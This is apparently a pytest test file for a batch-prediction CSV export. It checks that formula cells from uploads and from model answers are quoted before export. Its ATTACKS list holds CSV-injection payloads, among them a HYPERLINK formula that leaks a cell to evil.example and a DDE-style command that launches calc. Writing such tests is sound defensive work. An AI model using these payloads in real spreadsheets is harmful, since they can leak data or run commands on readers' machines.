"""Batch-prediction CSVs neutralise formula cells (issue 13: `=HYPERLINK(...)`, `@SUM`, `+1+1`
came back unchanged from an uploaded file, ready to run in the reader's spreadsheet)."""

from __future__ import annotations

import csv

import pandas as pd

from gradio_hub.batch import predict_frame, read_upload

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


class EchoApi:
    """Answers every item, with a category that is itself a formula (a variant: the answer,
    not only the upload, is text from elsewhere)."""

    def predict_batch(self, items):
        return {"predictions": [{"prdtypecode": 10, "category": "=1+2", "confidence": 0.5,
                                 "model_version": "3"} for _ in items]}


def test_formula_cells_are_quoted_in_the_exported_csv(tmp_path, rakuten_env):
    upload = tmp_path / "upload.csv"
    pd.DataFrame({"designation": ATTACKS + ["Lampe LED"],
                  "description": ["=cmd()"] * len(ATTACKS) + ["ok - fine"]}).to_csv(upload, index=False)
    frame = read_upload(upload, max_rows=100)
    outcome = predict_frame(frame, EchoApi(), rakuten_env)
    with outcome.path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    uploaded = list(frame["designation"][:len(ATTACKS)])  # as read (a lone \r may not survive)
    assert all(u[:1] in "=+-@\t\r" for u in uploaded)
    assert [r["designation"] for r in rows[:-1]] == ["'" + u for u in uploaded]
    assert all(r["description"] == "'=cmd()" for r in rows[:-1])
    assert all(r["category"] == "'=1+2" for r in rows)
    # Ordinary text and numbers are untouched.
    assert rows[-1]["designation"] == "Lampe LED" and rows[-1]["description"] == "ok - fine"
    assert rows[-1]["prdtypecode"] == "10" and rows[-1]["confidence"] == "0.5"
    # The table shown in the hub keeps the text as it was uploaded.
    assert list(outcome.frame["designation"][:len(ATTACKS)]) == uploaded
